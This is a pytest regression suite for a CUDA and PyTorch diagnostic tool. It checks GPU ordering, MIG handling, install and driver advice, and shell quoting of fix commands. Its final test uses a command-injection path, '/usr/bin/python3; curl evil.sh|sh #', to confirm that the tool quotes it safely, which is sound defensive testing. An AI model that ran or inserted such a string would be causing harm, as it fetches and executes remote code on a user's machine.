"""Regressions for the reviewer's findings at 2b94a8a (items 6a, 6c, 7, 8a-c, 10, 12, 13), on hand-written
facts for machines nobody here owns."""

from __future__ import annotations

import dataclasses

from cudadoctor.facts import CompileFacts, Facts, LibraryFacts, MigInstance, SmokeFacts, SmokeStep, TorchFacts
from cudadoctor.facts.libraries import ImportFailure, PinCheck
from cudadoctor.facts.paste import PasteFacts, PasteHit
from cudadoctor.knowledge.visibility import enumeration_order, from_env, parse
from cudadoctor.model import Finding, Severity
from cudadoctor.report import build
from cudadoctor.rules import evaluate
from tests.facts_fixtures import driver_ok, gpu, healthy, linux, torch_cpu, torch_cuda

H100 = "NVIDIA H100 80GB HBM3"
A100 = "NVIDIA A100-SXM4-80GB"
CU13X = "7.5 8.0 8.6 9.0 10.0 12.0+PTX"


def by_code(findings: list[Finding]) -> dict[str, Finding]:
    return {f.code: f for f in findings}


def commands(findings: list[Finding]) -> list[str]:
    return [c for f in findings for r in f.fix for c in r.commands]


# --- 6a: an unknown name or capability is not a GPU model of its own ---------------------------------


def four_h100s_one_unknown(**unknown: None) -> list:
    devs = [gpu(i, H100, "9.0") for i in range(4)]
    devs[0] = dataclasses.replace(devs[0], **unknown)
    return devs


def test_one_unknown_capability_on_identical_gpus_keeps_pci_order() -> None:
    for unknown in ({"compute_capability": None}, {"name": None}, {"name": None, "compute_capability": None}):
        devs = four_h100s_one_unknown(**unknown)
        order, estimated = enumeration_order(devs, "FASTEST_FIRST")
        assert [d.index for d in order] == [0, 1, 2, 3] and not estimated
        facts = healthy(devs)
        facts.system = linux(env={"CUDA_VISIBLE_DEVICES": "1"})
        by = by_code(evaluate(facts, []))
        assert "CD304" not in by  # not "Mixed GPU models (NVIDIA H100 80GB HBM3)"
        rows = by["CD300"].tables[0].rows
        assert [r[:2] for r in rows] == [["cuda:0", "1"]]  # CUDA_VISIBLE_DEVICES=1 is nvidia-smi's GPU 1
        assert "estimated" not in by["CD300"].title


def test_two_known_models_are_still_estimated_with_an_unknown_third() -> None:
    devs = [gpu(0, A100, "8.0"), gpu(1, H100, "9.0"), dataclasses.replace(gpu(2, H100, "9.0"), name=None)]
    order, estimated = enumeration_order(devs, "FASTEST_FIRST")
    assert estimated and order[0].index == 1  # Hopper before Ampere
    by = by_code(evaluate(healthy(devs), []))
    assert "CD304" in by


# --- 6c: a MIG UUID NVML did not tell cannot be judged ----------------------------------------------


def mig_gpu(*uuids: str | None):
    d = gpu(0, A100, "8.0")
    d.mig_enabled = True
    d.mig_instances = [MigInstance(i, uuid=u) for i, u in enumerate(uuids)]
    return d


MIG_A = "MIG-aaaaaaaa-1111-2222-3333-444455556666"
MIG_B = "MIG-bbbbbbbb-1111-2222-3333-444455556666"


def test_a_mig_token_is_not_judged_while_a_mig_uuid_is_unknown() -> None:
    dev = mig_gpu(None)
    facts = healthy([dev])
    facts.system = linux(env={"CUDA_VISIBLE_DEVICES": MIG_A})
    found = evaluate(facts, [])
    codes = {f.code for f in found}
    assert not codes & {"CD301", "CD302", "CD303"}  # not "hides all 1 GPU"
    assert "CD305" in codes  # MIG mode is still told
    assert from_env({"CUDA_VISIBLE_DEVICES": MIG_A}, [dev]) is None  # unknown, not empty
    vis = parse(f"0,{MIG_A}", [mig_gpu(MIG_B, None)])
    assert vis.undetermined == MIG_A and not vis.hides_all and vis.invalid_entry is None
    # one instance known and named: that one is judged as before
    vis = parse(MIG_B, [mig_gpu(MIG_B, None)])
    assert [s.mig_uuid for s in vis.selected] == [MIG_B] and vis.undetermined is None
    assert build("check", facts, [], found).status.name != "PROBLEMS"


def test_an_unknown_mig_token_still_hides_every_gpu_when_every_uuid_is_known() -> None:
    facts = healthy([mig_gpu(MIG_B)])
    facts.system = linux(env={"CUDA_VISIBLE_DEVICES": MIG_A})
    assert "CD301" in {f.code for f in evaluate(facts, [])}


# --- 7: CD210 names the torch build before a lost GPU --------------------------------------------------


def test_cd210_names_the_cpu_build_not_a_single_lost_gpu() -> None:
    devs = [gpu(0, A100, "8.0"), gpu(1, A100, "8.0", error="GPU_IS_LOST")]
    facts = healthy(devs)
    facts.torch = torch_cpu()
    by = by_code(evaluate(facts, []))
    assert "CD105" in by and "CD202" in by  # both are still reported
    cd210 = by["CD210"]
    assert cd210.why.startswith("Cause: CD202 ")
    assert "GPU_IS_LOST" not in cd210.why
    assert cd210.fix[0].commands == ["cudadoctor explain CD202"]
    assert cd210.cause == "CD202"


def test_cd210_ranks_build_errors_before_other_errors() -> None:
    devs = [gpu(0, A100, "8.0")]
    facts = healthy(devs)
    facts.system = linux(env={"CUDA_VISIBLE_DEVICES": ""})  # CD301 comes in a later section, but is listed first
    facts.torch = torch_cpu()
    cd210 = by_code(evaluate(facts, []))["CD210"]
    assert cd210.why.startswith("Cause: CD202 ") and "CD301" in cd210.why


def test_every_gpu_lost_is_a_cause() -> None:
    devs = [gpu(0, A100, "8.0", error="GPU_IS_LOST")]
    facts = healthy(devs, driver="580.95.05", cuda=13000)
    facts.torch = torch_cuda("2.13.0+cu130", "13.0", CU13X, devs, available=False)
    by = by_code(evaluate(facts, []))
    assert by["CD210"].why.startswith("Cause: CD105 ")
    assert "CD301" not in by  # CUDA_VISIBLE_DEVICES is unset: it hides nothing, the GPU is lost


# --- 8a: the pasted version's own CUDA variants -------------------------------------------------------


def pasted(version: str) -> Facts:
    hit = PasteHit("undefined-symbol", "undefined symbol: foo", {"symbol": "foo", "library": "libtorch_cuda.so"})
    return Facts(
        torch=TorchFacts(python_executable="python", installed=True, version=version),
        paste=PasteFacts(formats=["pip list"], hits=[hit]),
    )


def install_lines(facts: Facts) -> list[str]:
    return [c for c in commands(evaluate(facts, [])) if "pip install" in c and "torch==" in c]


def test_a_pasted_version_gets_an_index_it_exists_on() -> None:
    assert install_lines(pasted("2.4.0")) == [
        "python -m pip install torch==2.4.0 --index-url https://download.pytorch.org/whl/cu124"  # the newest
    ]
    old_driver = pasted("2.4.0")
    old_driver.driver = driver_ok("470.82.01", 11040, [])  # CUDA 11.4: runs cu118, not cu121/cu124
    assert install_lines(old_driver) == [
        "python -m pip install torch==2.4.0 --index-url https://download.pytorch.org/whl/cu118"
    ]
    # a release the tables do not know: its default wheel, not an index that may lack it
    assert install_lines(pasted("1.13.1")) == ["python -m pip install torch==1.13.1"]
    assert not any("#" in c for c in commands(evaluate(pasted("2.4.0"), [])) if "pip install" in c)


# --- 8b: a driver upgrade from inside a container is done on the host -----------------------------


def t4_old_driver(in_container: bool) -> dict[str, Finding]:
    dev = [gpu(0, "Tesla T4", "7.5", total_gib=15)]
    facts = healthy(dev, driver="535.104.05", cuda=12020, in_container=in_container)
    facts.torch = torch_cuda("2.13.0+cu130", "13.0", CU13X, dev, available=False)
    return by_code(evaluate(facts, []))


def test_a_driver_upgrade_in_a_container_says_on_the_host() -> None:
    inside = [r for r in t4_old_driver(True)["CD203"].fix if "sudo reboot" in r.commands]
    assert inside and all(
        r.when.startswith("On the host (not in this container): upgrade the NVIDIA driver") for r in inside
    )
    outside = [r for r in t4_old_driver(False)["CD203"].fix if "sudo reboot" in r.commands]
    assert outside and all(r.when.startswith("Upgrade the NVIDIA driver") for r in outside)


# --- 8c: a fix's commands are commands, not comments -------------------------------------------------


def test_no_advice_is_a_label_not_a_comment() -> None:
    from cudadoctor.rules.install_advice import Advice
    from cudadoctor.rules.torch_build import _advice_fix

    fixes = _advice_fix(Advice(None, None, note="no known torch build fits"), "Install torch")
    assert fixes[0].commands == [] and "https://pytorch.org/get-started/previous-versions/" in fixes[0].when


def test_python_headers_on_an_unknown_distribution_are_a_label() -> None:
    facts = Facts(
        system=linux(os_id="gentoo"),
        torch=torch_cpu(python_version="3.11.7"),
        compile=CompileFacts(
            python_executable="/opt/venv/bin/python",
            compiler="/usr/bin/g++",
            compiler_name="g++",
            python_headers=False,
            python_include="/usr/include/python3.11",
            cpu_ok=False,
            cpu_error="fatal error: Python.h: No such file or directory",
        ),
    )
    found = evaluate(facts, [])
    assert not any(c.lstrip().startswith("#") for c in commands(found))
    whens = [r.when for f in found for r in f.fix]
    assert any("Python development headers (Python.h) for /opt/venv/bin/python" in w for w in whens)
    facts.system = linux(os_id="ubuntu")
    assert "sudo apt install -y python3.11-dev" in commands(evaluate(facts, []))


def test_fleet_driver_on_an_unknown_os_is_a_label() -> None:
    from cudadoctor.facts import DriverFacts, NvmlDevice, SystemFacts
    from cudadoctor.facts.fleet import FleetFacts, NodeFacts, RankInfo
    from cudadoctor.rules.fleet import evaluate as fleet_evaluate

    ff = FleetFacts(world_size=3, local_world_size=1)
    for n in range(3):
        ff.nodes.append(NodeFacts(node_rank=n, label=f"gpu{n:02d}", host=f"gpu{n:02d}", ranks=[n]))
        ff.ranks.append(RankInfo(rank=n, node_rank=n, local_rank=0, host=f"gpu{n:02d}", torch="2.13.0+cu130"))
        ff.nodes[-1].facts = Facts(
            system=SystemFacts(os="Linux", os_id="gentoo", env={}),
            driver=DriverFacts(
                binding="nvidia-ml-py",
                library_loaded=True,
                init_status="ok",
                driver_version="535.104.05" if n == 2 else "550.54.14",
                device_count=1,
                devices=[NvmlDevice(index=0, name=H100)],
            ),
        )
    found = fleet_evaluate(ff)
    differ = by_code(found)["CD801"]
    assert not any(c.lstrip().startswith("#") for c in commands(found))
    driver = [r for r in differ.fix if "550.54.14" in r.when]
    assert driver == [driver[0]] and driver[0].commands == []
    assert driver[0].when == "on gpu02: install NVIDIA driver 550.54.14 (branch 550), as on the others, then reboot"


# --- 10, 12: no OK without a step, N/A for unknown figures, no "torch 's" -------------------------------


def test_a_smoke_test_without_steps_is_not_ok() -> None:
    found = evaluate(Facts(smoke=SmokeFacts(steps=[])), [])
    assert "CD406" not in {f.code for f in found}
    assert not any(f.severity is Severity.OK and f.section == "Measurements" for f in found)
    skipped = by_code(found)["CD405"]
    assert skipped.severity is Severity.INFO and skipped.title == "Smoke test: no training step ran"
    no_losses = evaluate(Facts(smoke=SmokeFacts(steps=[SmokeStep("cpu", "mlp", [], None)])), [])
    assert "CD406" not in {f.code for f in no_losses}


def test_unknown_steps_per_second_is_na() -> None:
    smoke = SmokeFacts(steps=[SmokeStep("cpu", "mlp", [2.3, 2.0], None), SmokeStep("cpu", "cnn", [2.3, 1.9], 0.0)])
    ok = by_code(evaluate(Facts(smoke=smoke), []))["CD406"]
    assert [r[2] for r in ok.tables[0].rows] == ["N/A", "0.0"]


def test_pins_with_an_unknown_torch_version() -> None:
    t = torch_cpu(version=None)
    t.libraries = LibraryFacts(pins=[PinCheck("nvidia-cudnn-cu12", "==9.10.2.21", "9.1.0.70", ok=False)])
    title = by_code(evaluate(Facts(system=linux(), torch=t), []))["CD219"].title
    assert title == "nvidia-* wheels do not match the pins of torch (1 differ)"
    t.version = "2.13.0+cu130"
    title = by_code(evaluate(Facts(system=linux(), torch=t), []))["CD219"].title
    assert title == "nvidia-* wheels do not match the pins of torch 2.13.0+cu130 (1 differ)"


# --- 13: a Windows report reads the same on Linux -----------------------------------------------------


def windows_torch() -> TorchFacts:
    rtx = [gpu(0, "NVIDIA GeForce RTX 4090", "8.9", total_gib=24)]
    t = torch_cuda("2.13.0+cu130", "13.0", CU13X, rtx, libraries=None)  # the rules read the raw paths
    t.python_executable = "C:\\venv\\Scripts\\python.exe"
    t.path = "C:\\venv\\Lib\\site-packages\\torch"
    return t


def test_a_windows_report_keeps_windows_paths() -> None:
    t = windows_torch()
    t.loaded_libraries = {"cudnn": ["C:\\venv\\Lib\\site-packages\\torch\\lib\\cudnn64_9.dll"]}
    win = linux(os="Windows", os_id=None)
    assert "CD208" not in {f.code for f in evaluate(Facts(system=win, torch=t), [])}  # the wheel's own copy
    t.loaded_libraries = {"cudnn": ["C:\\cuda\\bin\\cudnn64_9.dll"]}
    assert "CD208" in {f.code for f in evaluate(Facts(system=win, torch=t), [])}

    from cudadoctor.rules.libraries import import_failure_detail

    t = windows_torch()
    t.libraries = LibraryFacts(
        import_failure=ImportFailure(
            kind="undefined_symbol",
            library="cublasLt64_12.dll",
            symbol="foo",
            family="cublas",
            loaded_instead="C:\\cuda\\v12.1\\bin\\cublas64_12.dll",
            loaded_origin="ld_library_path",
        )
    )
    detail = import_failure_detail(Facts(system=win, torch=t))
    assert detail is not None
    assert detail[2][0].when.startswith("Drop C:\\cuda\\v12.1\\bin from LD_LIBRARY_PATH")


# --- found by the wider story strategy (item 14): an unknown load list adds no warning ---------------


def test_an_old_toolkit_with_unknown_loaded_libraries_is_info() -> None:
    from cudadoctor.facts.libraries import LoadedLibrary

    toolkit = "/usr/local/cuda-11.8/lib64"
    lib = LoadedLibrary("cudnn", f"{toolkit}/libcudnn.so.8", "ld_library_path", "8.9.0", via=toolkit)

    def problems(loaded: list | None) -> set[str]:
        t = torch_cuda("2.13.0+cu130", "13.0", CU13X, [gpu(0, H100, "9.0")])
        t.libraries = LibraryFacts(loaded=loaded, ld_library_path=[toolkit], stale_toolkits=[f"{toolkit}=11.8"])
        found = evaluate(Facts(system=linux(), torch=t), [])
        return {f.code for f in found if f.severity in (Severity.ERROR, Severity.WARNING)}

    known = problems([lib])
    assert "CD220" not in known  # a directory a library came through is told as a shadow (CD208), not twice
    assert problems(None) <= known  # not knowing what was loaded adds no warning
    assert problems([dataclasses.replace(lib, via=None)]) <= known
    assert "CD220" in problems([])  # nothing came from there: the old toolkit itself is the warning


# --- a fix command's interpreter path is one shell word ------------------------------------------------


def _cpu_torch_fix_commands(python: str, windows: bool = False) -> list[str]:
    dev = [gpu(0, "NVIDIA GeForce RTX 3060", "8.6", total_gib=12)]
    facts = healthy(dev, driver="560.35.03", cuda=12060)
    if windows:
        facts.system.os = "Windows"
    facts.torch = dataclasses.replace(torch_cpu(), python_executable=python)
    return [c for fx in by_code(evaluate(facts, []))["CD202"].fix for c in fx.commands]


def test_an_interpreter_path_with_a_space_pastes_as_one_word() -> None:
    cmds = _cpu_torch_fix_commands("/home/al ice/my env/bin/python")
    assert cmds and all(c.startswith("'/home/al ice/my env/bin/python' -m pip") for c in cmds)
    win = _cpu_torch_fix_commands("C:\\Program Files\\Python312\\python.exe", windows=True)
    assert win and all(c.startswith('& "C:\\Program Files\\Python312\\python.exe" -m pip') for c in win)
    plain = _cpu_torch_fix_commands("/opt/venv/bin/python")
    assert all(c.startswith("/opt/venv/bin/python -m pip") for c in plain)  # no quotes where none are needed


def test_a_replayed_interpreter_path_cannot_run_code_when_pasted() -> None:
    """Someone else's saved report: its path is a name in the fix, never a second command."""
    cmds = _cpu_torch_fix_commands("/usr/bin/python3; curl evil.sh|sh #")
    assert cmds and all(c.startswith("'/usr/bin/python3; curl evil.sh|sh #' -m pip") for c in cmds)
